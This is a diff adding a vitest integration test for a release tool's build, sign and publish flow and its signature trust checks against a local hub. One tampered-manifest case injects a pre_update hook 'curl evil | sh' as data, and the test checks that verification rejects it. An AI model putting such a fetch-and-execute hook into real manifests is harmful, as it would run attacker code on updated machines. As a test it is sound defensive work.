@@ -1,0 +1,186 @@
+import { createHash } from "node:crypto";
+import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { sha256Text } from "../../../agent/release/sign-artifact.js";
+import { type RunningHub, startHub } from "../../../hub/server.js";
+import type { ReleaseRecord } from "../../../hub/store/store.js";
+import { memoryLogger } from "../../../shared/log.js";
+import { generateKeyPair } from "../../../shared/signing/keys.js";
+import type { SignatureFailure } from "../../../shared/signing/signature.js";
+import { verifyReleaseTrust } from "../../../shared/signing/trust.js";
+import { runRelease } from "./run-cli.js";
+
+const sha = (b: Buffer | string): string => createHash("sha256").update(b).digest("hex");
+
+describe("ship release publish (real hub)", () => {
+  let dir: string;
+  let hub: RunningHub;
+  let ci: string;
+  const get = async (path: string): Promise<Response> =>
+    fetch(`${hub.url}/api/v1${path}`, { headers: { authorization: `Bearer ${ci}` } });
+
+  beforeAll(async () => {
+    dir = await mkdtemp(join(tmpdir(), "ship-publish-"));
+    hub = await startHub({
+      host: "127.0.0.1",
+      port: 0,
+      dataDir: join(dir, "hub"),
+      pingIntervalMs: 60_000,
+      offlineTimeoutMs: 60_000,
+      tickIntervalMs: 1000,
+      maxArtifactBytes: 10 << 20,
+      maxPayloadBytes: 64 << 10,
+      log: memoryLogger(),
+    });
+    ci = hub.tokens.issue({ role: "ci", ttlSeconds: 600 }).token;
+    await writeFile(join(dir, "ci.token"), `${ci}\n`);
+    const app = join(dir, "myapp");
+    await mkdir(join(app, "src"), { recursive: true });
+    await writeFile(join(app, "src/main.py"), "print('v1')\n");
+  });
+  afterAll(async () => {
+    await hub.close();
+    await rm(dir, { recursive: true, force: true });
+  });
+
+  it("build → sign → publish: the hub holds the artifact, manifest and signature agents verify", async () => {
+    const app = join(dir, "myapp");
+    expect((await runRelease(app, "http", "1.0.0", "First", "--out", "../dist")).code).toBe(0);
+    expect((await runRelease(app, "keygen", "--out", "../keys")).code).toBe(0);
+    const artifact = join(dir, "dist/myapp-1.0.0.tar.gz");
+    expect((await runRelease(app, "sign", artifact, "--key", "../keys/ship-release.key")).code).toBe(0);
+    const published = await runRelease(
+      app,
+      "--json",
+      "publish",
+      ...["--hub", hub.url, "--token-file", join(dir, "ci.token"), "--app", "myapp", "--version", "1.0.0"],
+      ...["--artifact", artifact, "--signature", `${artifact}.sig`],
+    );
+    expect(published.err).toBe("");
+    expect(published.code).toBe(0);
+    const { id } = JSON.parse(published.out) as { id: string };
+
+    const release = (await (await get(`/releases/${id}`)).json()) as ReleaseRecord;
+    const bytes = await readFile(artifact);
+    expect(release.source).toEqual({ type: "hub", sha256: sha(bytes) });
+    const downloaded = Buffer.from(await (await get(`/artifacts/${sha(bytes)}`)).arrayBuffer());
+    expect(downloaded.equals(bytes)).toBe(true);
+
+    // What an agent with [trust] does with what the hub hands it.
+    const trust = { keys: [], key_files: [join(dir, "keys/ship-release.pub")], allow_downgrade: false };
+    const genuine = {
+      trust,
+      signature: release.signature,
+      app: "myapp",
+      version: "1.0.0",
+      artifactSha256: sha(downloaded),
+      manifestSha256: sha256Text(release.manifest),
+    };
+    expect(await verifyReleaseTrust(genuine)).toMatchObject({ verified: true });
+    const refusals: [Partial<typeof genuine>, SignatureFailure][] = [
+      [{ artifactSha256: sha("tampered artifact") }, "artifact_mismatch"],
+      [
+        { manifestSha256: sha256Text(`${release.manifest}hooks: {pre_update: ["curl evil | sh"]}\n`) },
+        "manifest_mismatch",
+      ],
+      [{ version: "1.0.1" }, "version_mismatch"],
+      [{ signature: null }, "unsigned"],
+      [
+        { trust: { keys: [generateKeyPair().publicKeyPem], key_files: [], allow_downgrade: false } },
+        "unknown_key",
+      ],
+    ];
+    for (const [change, reason] of refusals) {
+      await expect(verifyReleaseTrust({ ...genuine, ...change })).rejects.toMatchObject({ reason });
+    }
+  });
+
+  it("exits non-zero with the hub's reason when the hub refuses", async () => {
+    const app = join(dir, "myapp");
+    const args = ["--hub", hub.url, "--app", "myapp", "--version", "1.0.0"];
+    const artifact = ["--artifact", join(dir, "dist/myapp-1.0.0.tar.gz")];
+    const again = await runRelease(
+      app,
+      "publish",
+      ...args,
+      "--token-file",
+      join(dir, "ci.token"),
+      ...artifact,
+    );
+    expect(again.code).toBe(2);
+    expect(again.err).toMatch(/HTTP 409.*versions are immutable/);
+    const badToken = await runRelease(app, "publish", ...args, "--token", "not-a-jwt", ...artifact);
+    expect(badToken.code).toBe(2);
+    expect(badToken.err).toMatch(/HTTP 401/);
+    expect(badToken.err).not.toContain("not-a-jwt");
+    const down = await runRelease(
+      app,
+      "publish",
+      "--hub",
+      "http://127.0.0.1:1",
+      ...args.slice(2),
+      "--token",
+      "t",
+      ...artifact,
+    );
+    expect(down.code).toBe(1);
+    expect(down.err).toMatch(/cannot reach the hub/);
+  });
+
+  it("refuses locally a signature made for another release", async () => {
+    const app = join(dir, "myapp");
+    const artifact = join(dir, "dist/myapp-1.0.0.tar.gz");
+    const published = await runRelease(
+      app,
+      "publish",
+      ...["--hub", hub.url, "--token-file", join(dir, "ci.token"), "--app", "myapp", "--version", "1.0.1"],
+      ...["--artifact", artifact, "--signature", `${artifact}.sig`],
+    );
+    expect(published.code).toBe(2);
+    expect(published.err).toMatch(/version mismatch/);
+  });
+
+  it("registers an external URL or a git commit without uploading", async () => {
+    const app = join(dir, "myapp");
+    await writeFile(join(app, "update-manifest.yaml"), 'version: "2.0.0"\n');
+    const common = ["--hub", hub.url, "--token-file", join(dir, "ci.token"), "--app", "myapp"];
+    const url = await runRelease(
+      app,
+      "--json",
+      "publish",
+      ...common,
+      ...["--version", "2.0.0", "--url", "https://example.com/myapp-2.0.0.tar.gz", "--sha256", sha("x")],
+    );
+    expect(url.code).toBe(0);
+    const urlRelease = (await (
+      await get(`/releases/${(JSON.parse(url.out) as { id: string }).id}`)
+    ).json()) as ReleaseRecord;
+    expect(urlRelease.source).toEqual({
+      type: "https",
+      url: "https://example.com/myapp-2.0.0.tar.gz",
+      sha256: sha("x"),
+    });
+    await writeFile(join(app, "update-manifest.yaml"), 'version: "2.0.1"\n');
+    const commit = "a".repeat(40);
+    const git = await runRelease(
+      app,
+      "--json",
+      "publish",
+      ...common,
+      "--version",
+      "2.0.1",
+      "--git-commit",
+      commit,
+      "--git-tag",
+      "v2.0.1",
+    );
+    expect(git.code).toBe(0);
+    const gitRelease = (await (
+      await get(`/releases/${(JSON.parse(git.out) as { id: string }).id}`)
+    ).json()) as ReleaseRecord;
+    expect(gitRelease.source).toEqual({ type: "git", commit, tag: "v2.0.1" });
+    expect(gitRelease.manifest).toBe('version: "2.0.1"\n');
+  });
+});
